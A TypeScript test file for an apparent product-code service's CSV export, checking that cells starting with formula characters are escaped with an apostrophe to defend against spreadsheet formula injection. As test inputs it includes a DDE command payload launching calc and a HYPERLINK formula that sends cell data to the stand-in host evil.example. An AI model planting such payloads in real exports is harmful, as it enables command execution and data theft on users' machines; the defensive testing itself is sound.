import { FIRST_ACCOUNT_ID } from '@codemint/db';
import { csv } from '../src/items/export/csv';
import { type Api, startApi } from './support';

const FORMULAS = ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '=cmd|"/c calc"!A1', '＝1', '－1'];

const row = (item: object) => csv([item], [], false).row(item);

test.each(FORMULAS)('a text that begins as a formula does is one behind an apostrophe: %j', (text) => {
  expect(row({ name: text })).toBe(`"'${text.replaceAll('"', '""')}"`);
  expect(row({ account: { account_name: text } })).toBe(`"'${text.replaceAll('"', '""')}"`);
});

test.each([
  'a=1',
  "'=1",
  '1-2',
  '',
  ' =1',
  '/01/09312345551927',
  'https://id.gs1.org/',
  '2026-11-21T00:00:00.000Z',
])('any other text stays as it is: %j', (text) => {
  expect(row({ name: text })).toBe(`"${text}"`);
});

test('numbers, lists and what is not there stay as they are', () => {
  expect(row({ a: -1, b: -1.5, c: null, d: ['=1'], e: true })).toBe('-1,-1.5,,"[""=1""]",true');
});

test('codes are told exactly, also through a relation', () => {
  expect(row({ code: '=A1', custom_id: '=A1' })).toBe(`"=A1","'=A1"`);
  expect(row({ unique_code: { code: '-A' }, serial: '+A', codename: '+A' })).toBe(`"-A","+A","'+A"`);
});

test('names of columns that a query chose are no formulas either', () => {
  expect(csv([{ '=1+1': 1 }], ['@a'], false).head).toBe(`"'=1+1","'@a"\n`);
});

describe('files of the API', () => {
  let api: Api;
  beforeAll(async () => {
    api = await startApi();
  });
  afterAll(() => api.close());

  const PRODUCT = '/01/00614141999996';

  test('have no formulas that users typed, and supplied codes as they were supplied', async () => {
    const name = '=HYPERLINK("https://evil.example/?"&A1,"Prize")';
    await api.post('/items/product', {
      gtin: '00614141999996',
      product_name: name,
      brand: '@b',
      custom_id: '+c',
    });
    const products = await api.get(
      `/items/product?export=csv&fields=product_name,brand,custom_id&filter[id][_eq]=${PRODUCT}`,
    );
    expect(products.text.split('\n')[1]).toBe(`"'${name.replaceAll('"', '""')}","'@b","'+c"`);

    const lines = `product,code\n${PRODUCT},=A1\n${PRODUCT},-A2\n`;
    const imported = await api.request('POST', '/import/codes', {
      body: lines,
      headers: { 'content-type': 'text/csv' },
    });
    expect(imported.status).toBe(200);
    const filter = `filter[product][_eq]=${encodeURIComponent(PRODUCT)}`;
    const codes = await api.get(
      `/items/unique_code?export=csv&fields=code,product.product_name&${filter}&sort=code`,
    );
    expect(codes.text).toBe(
      `"code","product.product_name"\n"-A2","'${name.replaceAll('"', '""')}"\n"=A1","'${name.replaceAll('"', '""')}"`,
    );
    const columns = await api.get(`/items/unique_code?export=csv&columns=code,serial&${filter}`);
    expect(columns.text.split('\n').slice(1).sort()).toEqual(['"-A2","-A2"', '"=A1","=A1"']);

    const taken = await api.post('/items/code_reservation', {
      product: PRODUCT,
      quantity: 2,
      reserved_for: '=1+1',
      reference_id: '-r',
      purchase_order: '+p',
    });
    expect([taken.status, taken.text]).toEqual([200, expect.any(String)]);
    const { id } = taken.body.data;
    const fields = 'fields=code,reservation.reserved_for,reservation.reference_id,reservation.purchase_order';
    const file = await api.get(`/items/code_reservation/${id}/export?${fields}`);
    for (const line of file.text.split('\n').slice(1))
      expect(line).toMatch(/^"[=-]A\d","'=1\+1","'-r","'\+p"$/);
  });

  test('the accounts that an administrator exports are no formulas either', async () => {
    await api.database.pool.query('UPDATE account SET account_name = $1 WHERE id = $2', [
      '-2+3',
      FIRST_ACCOUNT_ID,
    ]);
    const { text } = await api.get('/items/account?export=csv&fields=account_name', 'admin');
    expect(text).toContain(`"'-2+3"`);
  });
});
